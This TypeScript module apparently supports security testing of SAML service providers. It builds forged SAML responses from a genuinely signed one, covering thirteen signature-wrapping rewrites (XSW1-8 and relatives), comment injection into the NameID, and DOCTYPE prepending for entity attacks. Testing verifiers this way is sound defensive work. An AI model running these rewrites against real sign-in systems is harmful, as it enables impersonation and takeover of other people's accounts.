import { Document, DOMParser, Element, Node, XMLSerializer } from '@xmldom/xmldom';

/**
 * Rewrites of a genuinely signed SAML response, as an attacker who holds one (for their own account) would try to
 * turn it into a sign-in of someone else. Each takes the base64 response and the identity to impersonate.
 */
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

type El = Element;

export interface Impersonation {
  /** The e-mail of the account the attacker wants. */
  email: string;
  /** The NameID the forged assertion asserts. */
  nameId: string;
}

const decode = (b64: string) => new DOMParser().parseFromString(Buffer.from(b64, 'base64').toString(), 'text/xml');
const encode = (doc: Document) => Buffer.from(new XMLSerializer().serializeToString(doc)).toString('base64');

const children = (el: Node, ns: string, name: string): El[] =>
  Array.from(el.childNodes).filter(
    (n): n is El => n.nodeType === 1 && (n as El).namespaceURI === ns && (n as El).localName === name,
  );
const child = (el: Node, ns: string, name: string): El | undefined => children(el, ns, name)[0];

/** The signed assertion turned into the attacker's: no signature, another ID, the victim's NameID and e-mail. */
function forged(assertion: El, who: Impersonation, id = `_evil${Math.random().toString(36).slice(2)}`): El {
  const copy = assertion.cloneNode(true) as El;
  for (const sig of children(copy, DS, 'Signature')) copy.removeChild(sig);
  copy.setAttribute('ID', id);
  const nameId = copy.getElementsByTagNameNS(SAML, 'NameID')[0];
  nameId.textContent = who.nameId;
  for (const v of Array.from(copy.getElementsByTagNameNS(SAML, 'AttributeValue'))) v.textContent = who.email;
  return copy;
}

function parts(b64: string) {
  const doc = decode(b64);
  const response = doc.documentElement!;
  const assertion = child(response, SAML, 'Assertion')!;
  return { doc, response, assertion };
}

export interface WrappingAttack {
  name: string;
  /** Which element the genuine response signs. */
  signs: 'response' | 'assertion';
  rewrite: (signed: string, who: Impersonation) => string;
}

/**
 * The signature-wrapping family (XSW1 to XSW8 as SAML Raider names them, and five relatives): the signed element
 * stays intact somewhere in the document, so a verifier that checks "some signature is valid" passes, while the
 * element a careless reader takes the identity from is the attacker's.
 */
export const WRAPPING_ATTACKS: WrappingAttack[] = [
  {
    name: 'XSW1: an unsigned response with the forged assertion, the signed response inside its Signature',
    signs: 'response',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      const evil = response.cloneNode(true) as El;
      evil.setAttribute('ID', '_evil-response');
      const evilAssertion = child(evil, SAML, 'Assertion')!;
      evil.replaceChild(forged(assertion, who), evilAssertion);
      const sig = child(evil, DS, 'Signature')!;
      sig.appendChild(response.cloneNode(true));
      doc.replaceChild(evil, response);
      return encode(doc);
    },
  },
  {
    name: 'XSW2: an unsigned response with the forged assertion, the signed response before its Signature',
    signs: 'response',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      const evil = response.cloneNode(true) as El;
      evil.setAttribute('ID', '_evil-response');
      evil.replaceChild(forged(assertion, who), child(evil, SAML, 'Assertion')!);
      const sig = child(evil, DS, 'Signature')!;
      evil.insertBefore(response.cloneNode(true), sig);
      doc.replaceChild(evil, response);
      return encode(doc);
    },
  },
  {
    name: 'XSW3: the forged assertion before the signed one, as its sibling',
    signs: 'assertion',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      response.insertBefore(forged(assertion, who), assertion);
      return encode(doc);
    },
  },
  {
    name: 'XSW4: the forged assertion wrapping the signed one',
    signs: 'assertion',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      const evil = forged(assertion, who);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      return encode(doc);
    },
  },
  {
    name: 'XSW5: the signed assertion altered in place, an untouched copy of it appended to the response',
    signs: 'assertion',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      const original = assertion.cloneNode(true) as El;
      for (const sig of children(original, DS, 'Signature')) original.removeChild(sig);
      assertion.getElementsByTagNameNS(SAML, 'NameID')[0].textContent = who.nameId;
      for (const v of Array.from(assertion.getElementsByTagNameNS(SAML, 'AttributeValue'))) v.textContent = who.email;
      response.appendChild(original);
      return encode(doc);
    },
  },
  {
    name: 'XSW6: the signed assertion altered in place, the untouched copy inside its Signature',
    signs: 'assertion',
    rewrite(signed, who) {
      const { doc, assertion } = parts(signed);
      const original = assertion.cloneNode(true) as El;
      assertion.getElementsByTagNameNS(SAML, 'NameID')[0].textContent = who.nameId;
      for (const v of Array.from(assertion.getElementsByTagNameNS(SAML, 'AttributeValue'))) v.textContent = who.email;
      child(assertion, DS, 'Signature')!.appendChild(original);
      return encode(doc);
    },
  },
  {
    name: 'XSW7: the signed assertion hidden in an Extensions element, the forged one in its place',
    signs: 'assertion',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
      response.insertBefore(extensions, child(response, SAMLP, 'Status')!);
      response.replaceChild(forged(assertion, who), assertion);
      extensions.appendChild(assertion);
      return encode(doc);
    },
  },
  {
    name: 'XSW8: the forged assertion carrying the signature, the signed one in an Object of that signature',
    signs: 'assertion',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      const evil = forged(assertion, who);
      response.replaceChild(evil, assertion);
      const sig = child(assertion, DS, 'Signature')!;
      assertion.removeChild(sig);
      const object = doc.createElementNS(DS, 'ds:Object');
      object.appendChild(assertion);
      sig.appendChild(object);
      evil.insertBefore(sig, child(evil, SAML, 'Subject')!);
      return encode(doc);
    },
  },
  {
    name: "a forged assertion with the signed one's ID, before it (the signature's reference resolves to either)",
    signs: 'assertion',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      response.insertBefore(forged(assertion, who, assertion.getAttribute('ID')!), assertion);
      return encode(doc);
    },
  },
  {
    name: 'a forged assertion after the signed one (two assertions, the last one read)',
    signs: 'assertion',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      response.appendChild(forged(assertion, who));
      return encode(doc);
    },
  },
  {
    name: "the signed assertion in the forged assertion's Advice",
    signs: 'assertion',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      const evil = forged(assertion, who);
      const advice = doc.createElementNS(SAML, 'saml:Advice');
      const conditions = child(evil, SAML, 'Conditions')!;
      evil.insertBefore(advice, conditions.nextSibling);
      response.replaceChild(evil, assertion);
      advice.appendChild(assertion);
      return encode(doc);
    },
  },
  {
    name: 'a signed response whose signed assertion is swapped for the forged one (digest no longer matches)',
    signs: 'response',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      response.replaceChild(forged(assertion, who, assertion.getAttribute('ID')!), assertion);
      return encode(doc);
    },
  },
  {
    name: 'a forged assertion beside a signed response moved under a new unsigned root',
    signs: 'response',
    rewrite(signed, who) {
      const { doc, response, assertion } = parts(signed);
      const root = doc.createElementNS(SAMLP, 'samlp:Response');
      for (const a of Array.from(response.attributes))
        if (!a.name.startsWith('xmlns')) root.setAttribute(a.name, a.value);
      root.setAttribute('ID', '_evil-root');
      root.appendChild(child(response, SAML, 'Issuer')!.cloneNode(true));
      root.appendChild(child(response, SAMLP, 'Status')!.cloneNode(true));
      root.appendChild(forged(assertion, who));
      doc.replaceChild(root, response);
      root.appendChild(response);
      return encode(doc);
    },
  },
];

/**
 * Comment injection: a comment inside the signed NameID and e-mail (`bob@corp.example<!---->.attacker.test`).
 * Exclusive canonicalization drops comments, so the signature still holds; a reader that takes the first text node
 * would see `bob@corp.example`.
 */
export function injectComment(signed: string, at: string): string {
  const xml = Buffer.from(signed, 'base64').toString();
  return Buffer.from(xml.split(`${at}.`).join(`${at}<!---->.`)).toString('base64');
}

/** A signed response with a DOCTYPE put in front: external entities and entity expansion. */
export function withDoctype(signed: string, doctype: string, reference?: { replace: string; by: string }): string {
  let xml = Buffer.from(signed, 'base64').toString();
  if (reference) xml = xml.split(reference.replace).join(reference.by);
  return Buffer.from(`${doctype}\n${xml}`).toString('base64');
}
